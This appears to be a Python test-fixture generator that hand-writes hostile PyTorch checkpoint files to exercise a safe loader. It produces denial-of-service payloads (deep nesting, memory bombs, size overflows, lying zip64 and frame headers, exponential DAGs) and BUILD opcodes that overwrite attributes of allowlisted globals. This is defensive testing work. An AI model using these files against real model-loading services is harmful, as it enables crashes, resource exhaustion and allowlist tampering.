"""Hostile ``torch.save`` files (issue 12, items 1, 2, 3, 9 and 13), written by hand opcode by opcode
(no torch needed; a few hundred bytes to 2 MB each, built in milliseconds).

* ``torch_deep_*``: a key or value nested 100 .. 10^6 deep -- tuples (whose hash recurses in C
  with no recursion check: SIGSEGV at 10^6), frozensets, lists, dicts, and lists linked through the
  memo after they were built (innermost first; or outermost first, so that a list is filled after it
  is held, which hides depth from a scan that does not follow mutations); zip and legacy.
* ``torch_stride0*``: a tensor of 2^20 .. 2^31 elements with stride 0 over a 4-byte storage (one,
  or eight of them); zip, legacy, bfloat16 and uint8 (4 bytes a weight once it is float32).
* ``torch_shared_storage`` / ``torch_legacy_views``: n tensors (or legacy storage views) over one
  storage of n KiB (at most 1 MiB): each materialised tensor costs the whole storage again.
* ``torch_size_wrap``: dimensions whose product wraps int64 (to 0, to a negative, to a small number).
* ``torch_rank``: 33, 65 and 1000 dimensions.
* ``torch_legacy_count``: a legacy storage whose element count says 2^31 .. 2^62.
* ``torch_frame_legacy``: a legacy object pickle that opens a protocol-4 FRAME of 2^30 .. 2^62 bytes.
* ``torch_zip64_pkl`` / ``torch_zip64_storage``: a stored zip64 member (``data.pkl`` or a storage)
  whose headers claim 4 GiB .. 1 TiB.
* ``torch_layer_index``: a real-looking LSTM state dict plus ``weight_ih_l<N>`` with N of 9, 19,
  400 and 5000 digits.
* ``torch_odict_copies``: one pickled list of (up to) 4096 pairs turned into an OrderedDict 10 .. 10^5
  times (each copy costs the whole list again: a quadratic memory bomb inside the unpickler).
* ``torch_dag``: ``t_0 = None`` (or one tensor), ``t_k = (t_{k-1}, t_{k-1})`` (DUP + TUPLE2: 2 bytes a
  level), 20 .. 60 levels: a few hundred bytes that a walk by paths expands into 2^n objects (review
  2026-12-05, section 1); zip and legacy.
* ``torch_build_global``: a BUILD opcode aimed at an allowed global (``_rebuild_tensor_v2``'s
  ``__defaults__``, ``OrderedDict``, the ``torch.Tensor`` marker, a storage type).
"""
from __future__ import annotations

import os
import struct
import zlib

from hostile_common import Family

# ------------------------------------------------------------------------------ pickle opcodes
PROTO2 = b"\x80\x02"
MARK, STOP, TUPLE, EMPTY_TUPLE, TUPLE1, TUPLE2 = b"(", b".", b"t", b")", b"\x85", b"\x86"
EMPTY_DICT, SETITEM, SETITEMS, EMPTY_LIST, APPEND, APPENDS = b"}", b"s", b"u", b"]", b"a", b"e"
REDUCE, BUILD, BINPERSID, NONE, FALSE = b"R", b"b", b"Q", b"N", b"\x89"
FROZENSET, POP = b"\x91", b"0"


def s(text: str) -> bytes:
    """BINUNICODE."""
    b = text.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def i(n: int) -> bytes:
    """An int: BININT when it fits, else LONG1 (any size)."""
    if -(1 << 31) <= n < (1 << 31):
        return b"J" + struct.pack("<i", n)
    b = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(b)]) + b if len(b) < 256 else b"\x8b" + struct.pack("<I", len(b)) + b


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def put(k: int) -> bytes:
    return b"r" + struct.pack("<I", k)  # LONG_BINPUT


def get(k: int) -> bytes:
    return b"j" + struct.pack("<I", k)  # LONG_BINGET


def tup(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def tensor(key: str, numel: int, size, stride, offset=0, stype="FloatStorage", legacy=False) -> bytes:
    """``torch._utils._rebuild_tensor_v2(storage, offset, size, stride, False, OrderedDict())`` as
    torch.save writes it; the storage is the persistent id ('storage', type, key, 'cpu', numel)."""
    pid = tup(s("storage"), glob("torch", stype), s(key), s("cpu"), i(numel), *((NONE,) if legacy else ()))
    return (glob("torch._utils", "_rebuild_tensor_v2") +
            tup(pid + BINPERSID, i(offset), tup(*map(i, size)), tup(*map(i, stride)), FALSE,
                glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE) + REDUCE)


def state_dict(entries) -> bytes:
    """A pickle of ``{name: object}`` (``entries``: (name, pickled object) pairs)."""
    return PROTO2 + EMPTY_DICT + MARK + b"".join(s(k) + v for k, v in entries) + SETITEMS + STOP


# ------------------------------------------------------------------------------ containers
def zip_file(path, pkl: bytes, storages=None, declared=None, name="archive") -> str:
    """A torch.save zip archive (``<name>/data.pkl``, ``byteorder``, ``data/<key>``), written by hand so
    that a member may claim any size: ``declared = {member: size}`` gives it zip64 headers whose
    compressed and uncompressed sizes both say ``size``."""
    members = [(f"{name}/data.pkl", pkl), (f"{name}/byteorder", b"little")] + \
        [(f"{name}/data/{k}", v) for k, v in (storages or {}).items()] + [(f"{name}/version", b"3\n")]
    out, central = bytearray(), bytearray()
    for member, data in members:
        nm, crc, size = member.encode(), zlib.crc32(data), (declared or {}).get(member, len(data))
        z64 = size >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, size, size) if z64 else b""
        small = 0xFFFFFFFF if z64 else size
        head = (45 if z64 else 20, 0, 0, 0, 0x21, crc, small, small, len(nm), len(extra))
        offset = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", *head) + nm + extra + data
        central += struct.pack("<4sH", b"PK\x01\x02", 45) + struct.pack("<HHHHHIIIHH", *head) + \
            struct.pack("<HHHII", 0, 0, 0, 0, offset) + nm + extra
    cd = len(out)
    out += central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), cd, 0)
    with open(path, "wb") as f:
        f.write(out)
    return path


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def legacy_file(path, obj_pkl: bytes, storages=None, counts=None) -> str:
    """The legacy layout: magic, protocol 1001, sys_info, the object pickle, the storage keys, then per
    storage an 8-byte element count (``counts[key]``, default the real one) and the raw bytes."""
    storages = storages or {}
    sys_info = PROTO2 + EMPTY_DICT + s("protocol_version") + i(1001) + SETITEM + s("little_endian") + \
        b"\x88" + SETITEM + s("type_sizes") + EMPTY_DICT + SETITEM + STOP
    keys = PROTO2 + EMPTY_LIST + MARK + b"".join(s(k) for k in storages) + APPENDS + STOP
    with open(path, "wb") as f:
        f.write(PROTO2 + i(LEGACY_MAGIC) + STOP + PROTO2 + i(1001) + STOP + sys_info + obj_pkl + keys)
        for k, data in storages.items():
            f.write(struct.pack("<q", (counts or {}).get(k, len(data) // 4)) + data)
    return path


def write(d, fname, pkl, storages=None, legacy=False, **kw) -> str:
    path = os.path.join(d, fname + ".pt")
    return legacy_file(path, pkl, storages, **kw) if legacy else zip_file(path, pkl, storages, **kw)


ONE_FLOAT = {"0": struct.pack("<f", 1.5)}


# ------------------------------------------------------------------------------ #12.1: nesting
def deep(kind: str, n: int) -> bytes:
    """An object nested ``n`` deep, built without recursion (a few bytes per level)."""
    if kind == "tuple":
        return EMPTY_TUPLE + TUPLE1 * (n - 1)
    if kind == "frozenset":
        return MARK * n + FROZENSET * n
    if kind == "list":
        return EMPTY_LIST * n + APPEND * (n - 1)
    if kind == "dict":
        return EMPTY_DICT + (s("k") + EMPTY_DICT) * (n - 1) + SETITEM * (n - 1)
    if kind in ("memo_list", "memo_list_topdown"):  # n empty lists in the memo, then list k appended to list k-1
        order = range(n - 2, -1, -1) if kind == "memo_list" else range(n - 1)  # innermost first, or outermost
        return b"".join(EMPTY_LIST + put(k) + POP for k in range(n)) + \
            b"".join(get(k) + get(k + 1) + APPEND + POP for k in order) + get(0)
    raise ValueError(kind)


def make_deep(kind, as_key, legacy):
    def make(d, n):
        obj = deep(kind, n)
        pkl = PROTO2 + EMPTY_DICT + (obj + i(1) if as_key else s("w") + obj) + SETITEM + STOP
        return write(d, f"deep_{kind}_{n}", pkl, legacy=legacy)
    return make


# ------------------------------------------------------------------------------ #12.2: memory
def make_stride0(copies, legacy=False, stype="FloatStorage"):
    def make(d, log2n):
        t = tensor("0", 1, (1 << log2n,), (0,), stype=stype, legacy=legacy)
        pkl = state_dict((f"w{k}", t) for k in range(copies))
        return write(d, f"stride0_{copies}x{log2n}", pkl, ONE_FLOAT, legacy=legacy)
    return make


def _floats(n):
    """A storage of min(n, 2^18) floats (1 KiB per tensor, at most 1 MiB): its length in floats, its bytes."""
    m = min(n << 8, 1 << 18)
    return m, bytes(4 * m)


def make_shared_storage(d, n):
    """``n`` tensors, each the whole of one storage of ``n`` KiB (at most 1 MiB)."""
    m, data = _floats(n)
    pkl = state_dict((f"w{k}", tensor("0", m, (m,), (1,))) for k in range(n))
    return write(d, f"shared{n}", pkl, {"0": data})


def make_legacy_views(d, n):
    """``n`` legacy storage views of one storage of ``n`` KiB (at most 1 MiB): view metadata ('0', 0, all)."""
    m, data = _floats(n)
    pid = tup(s("storage"), glob("torch", "FloatStorage"), s("0"), s("cpu"), i(m), tup(s("0"), i(0), i(m)))
    t = glob("torch._utils", "_rebuild_tensor_v2") + tup(
        pid + BINPERSID, i(0), tup(i(m)), tup(i(1)), FALSE, glob("collections", "OrderedDict") + EMPTY_TUPLE +
        REDUCE) + REDUCE
    return write(d, f"views{n}", state_dict((f"w{k}", t) for k in range(n)), {"0": data}, legacy=True)


SIZE_WRAPS = {0: (1 << 32, 1 << 32), 1: (1 << 21, 1 << 21, 1 << 21), 2: (1 << 62, 4, 3), 3: (1 << 63, 2, 0)}


def make_size_wrap(d, which):
    size = SIZE_WRAPS[which]
    pkl = state_dict([("w", tensor("0", 1, size, (0,) * len(size)))])
    return write(d, f"wrap{which}", pkl, ONE_FLOAT)


def make_rank(d, rank):
    pkl = state_dict([("w", tensor("0", 1, (1,) * rank, (0,) * rank))])
    return write(d, f"rank{rank}", pkl, ONE_FLOAT)


def make_legacy_count(d, log2n):
    pkl = state_dict([("w", tensor("0", 1, (1,), (1,), legacy=True))])
    return write(d, f"count{log2n}", pkl, ONE_FLOAT, legacy=True, counts={"0": 1 << log2n})


def make_frame(d, log2n):
    """A legacy file whose object pickle (protocol 4) opens a FRAME of 2^n bytes: the unpickler reads a
    frame whole, so from a file it first allocates what the frame claims."""
    pkl = b"\x80\x04\x95" + struct.pack("<Q", 1 << log2n) + EMPTY_DICT + STOP
    return write(d, f"frame{log2n}", pkl, legacy=True)


def make_zip64(member):
    def make(d, log2n):  # a storage member's claim is matched by the storage's element count
        pkl = state_dict([("w", tensor("0", (1 << log2n) // 4 if member == "data/0" else 1, (1,), (1,)))])
        return write(d, f"zip64_{member.replace('/', '_')}{log2n}", pkl, ONE_FLOAT,
                     declared={f"archive/{member}": 1 << log2n})
    return make


def make_odict_copies(d, n):
    """One memoized list of min(n, 4096) (int, None) pairs, then ``n`` x OrderedDict(list) kept in a list."""
    pairs = EMPTY_LIST + put(0) + MARK + b"".join(i(k) + NONE + TUPLE2 for k in range(min(n, 4096))) + APPENDS + POP
    od = glob("collections", "OrderedDict") + put(1) + POP
    copies = EMPTY_LIST + MARK + (get(1) + get(0) + TUPLE1 + REDUCE) * n + APPENDS
    return write(d, f"odict{n}", PROTO2 + pairs + od + EMPTY_DICT + s("w") + copies + SETITEM + STOP)


# ------------------------------------------------------------------------------ #12.3: layer index
LSTM_SHAPES = {"weight_ih_l0": (8, 3), "weight_hh_l0": (8, 2), "bias_ih_l0": (8,), "bias_hh_l0": (8,)}


def lstm_entries(extra_index: str, legacy=False):
    """A complete LSTM(3, 2) state dict (one storage per tensor) plus ``weight_ih_l<extra_index>``."""
    entries, storages = [], {}
    for k, (name, shape) in enumerate(list(LSTM_SHAPES.items()) + [("weight_ih_l" + extra_index, (8, 3))]):
        n = shape[0] * (shape[1] if len(shape) > 1 else 1)
        storages[str(k)] = struct.pack(f"<{n}f", *[((j * 7) % 11 - 5) / 10 for j in range(n)])
        entries.append((name, tensor(str(k), n, shape, (shape[1], 1) if len(shape) > 1 else (1,), legacy=legacy)))
    return entries, storages


def make_layer_index(legacy=False):
    def make(d, digits):
        entries, storages = lstm_entries("1" + "0" * (digits - 1), legacy)
        return write(d, f"layer{digits}", state_dict(entries), storages, legacy=legacy)
    return make


# ------------------------------------------------------------------------------ #12.13: BUILD on a global
BUILD_TARGETS = [("torch._utils", "_rebuild_tensor_v2"), ("collections", "OrderedDict"), ("torch", "Tensor"),
                 ("torch", "FloatStorage"), ("torch._utils", "_rebuild_parameter"),
                 ("torch._utils", "_rebuild_tensor_v2", "memo")]  # the global fetched again from the memo


def build_on_global(module, name, via_memo=False) -> bytes:
    """BUILD with state (None, {'__defaults__': (...), 'name': 'x', 'dtype': 'O'}) on a global (or on the
    same global memoized, popped, and fetched back with GET)."""
    slots = EMPTY_DICT + MARK + s("__defaults__") + tup(i(7), i(7), NONE) + s("name") + s("pwned") + \
        s("dtype") + s("O") + SETITEMS
    g = glob(module, name) + (put(9) + POP + get(9) if via_memo else b"")
    return g + tup(NONE, slots) + BUILD


def make_build_global(d, which):
    module, name, *memo = BUILD_TARGETS[which]
    pkl = state_dict([("g", build_on_global(module, name, bool(memo))), ("w", tensor("0", 1, (1,), (1,)))])
    return write(d, f"build_{name}{'_memo' if memo else ''}", pkl, ONE_FLOAT)


# ------------------------------------------------------------------------------ shared references (a DAG)
DUP = b"2"


def make_dag(leaf: str, legacy=False):
    """``{"w": t_n}`` with ``t_0`` = None or a 1-element tensor and ``t_k = (t_{k-1}, t_{k-1})``: the pickle
    holds n + 1 objects, a walk that follows every reference meets 2^n of them."""
    def make(d, n):
        t0 = NONE if leaf == "none" else tensor("0", 1, (1,), (1,), legacy=legacy)
        pkl = PROTO2 + EMPTY_DICT + s("w") + t0 + (DUP + TUPLE2) * n + SETITEM + STOP
        return write(d, f"dag_{leaf}{n}", pkl, ONE_FLOAT if leaf != "none" else None, legacy=legacy)
    return make


# ------------------------------------------------------------------------------ families
_DEEP = (100, 20_000, 1_000_000)
FAMILIES = [
    Family("torch_deep_tuple_key_zip", make_deep("tuple", True, False), _DEEP, issue_item="#12.1"),
    Family("torch_deep_tuple_key_legacy", make_deep("tuple", True, True), _DEEP, issue_item="#12.1"),
    Family("torch_deep_frozenset_key_zip", make_deep("frozenset", True, False), (100, 20_000, 500_000),
           issue_item="#12.1"),
    Family("torch_deep_tuple_value_zip", make_deep("tuple", False, False), _DEEP, issue_item="#12.1"),
    Family("torch_deep_list_value_legacy", make_deep("list", False, True), _DEEP, issue_item="#12.1"),
    Family("torch_deep_dict_value_zip", make_deep("dict", False, False), (100, 20_000, 200_000), issue_item="#12.1"),
    Family("torch_deep_memo_list_zip", make_deep("memo_list", False, False), (100, 20_000, 100_000),
           issue_item="#12.1"),
    Family("torch_deep_memo_list_topdown_zip", make_deep("memo_list_topdown", False, False), (100, 100_000),
           issue_item="#12.1"),
    Family("torch_stride0", make_stride0(1), (20, 28, 31, 40), issue_item="#12.2"),
    Family("torch_stride0_x8", make_stride0(8), (20, 24, 28, 31), issue_item="#12.2"),
    Family("torch_stride0_legacy", make_stride0(1, legacy=True), (20, 28, 31), issue_item="#12.2"),
    Family("torch_stride0_bf16", make_stride0(1, stype="BFloat16Storage"), (20, 28, 31), issue_item="#12.2"),
    Family("torch_stride0_u8", make_stride0(1, stype="ByteStorage"), (20, 25, 28), issue_item="#12.2"),
    Family("torch_shared_storage", make_shared_storage, (4, 100, 1000), issue_item="#12.2"),
    Family("torch_legacy_views", make_legacy_views, (4, 100, 1000), issue_item="#12.2"),
    Family("torch_odict_copies", make_odict_copies, (10, 10_000, 100_000), issue_item="#12.2"),
    Family("torch_size_wrap", make_size_wrap, tuple(SIZE_WRAPS), issue_item="#12.9"),
    Family("torch_rank", make_rank, (33, 65, 1000), issue_item="#12.9"),
    Family("torch_legacy_count", make_legacy_count, (31, 33, 62), issue_item="#12.9"),
    Family("torch_frame_legacy", make_frame, (30, 40, 62), issue_item="#12.9"),
    Family("torch_zip64_pkl", make_zip64("data.pkl"), (32, 36, 40), issue_item="#12.9"),
    Family("torch_zip64_storage", make_zip64("data/0"), (32, 36, 40), issue_item="#12.9"),
    Family("torch_layer_index", make_layer_index(), (9, 19, 400, 5000), issue_item="#12.3"),
    Family("torch_layer_index_legacy", make_layer_index(legacy=True), (9, 19, 5000), issue_item="#12.3"),
    Family("torch_dag", make_dag("none"), (20, 40, 60), issue_item="#12.2"),
    Family("torch_dag_legacy", make_dag("none", legacy=True), (20, 60), issue_item="#12.2"),
    Family("torch_dag_tensor", make_dag("tensor"), (20, 60), issue_item="#12.2"),
    Family("torch_build_global", make_build_global, tuple(range(len(BUILD_TARGETS))), issue_item="#12.13"),
]
